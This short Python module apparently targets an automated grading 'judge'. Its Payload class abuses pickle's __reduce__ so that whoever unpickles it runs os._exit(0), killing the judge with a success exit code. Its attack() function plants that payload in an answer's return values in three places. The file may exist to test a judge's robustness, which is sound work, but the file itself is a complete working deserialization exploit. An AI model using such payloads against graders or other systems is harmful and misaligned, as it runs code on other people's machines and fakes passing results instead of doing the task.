"""Answers with objects that run code in whoever unpickles them."""

import inspect
import os

import numpy as np


class Payload:
    """Unpickled, it ends the judge."""

    def __reduce__(self):
        return os._exit, (0,)


def attack(answer):
    """Bare, inside an array, and as the answer itself."""
    if not inspect.isfunction(answer):
        return answer
    return lambda *operands: (np.array([Payload()], dtype=object), Payload())
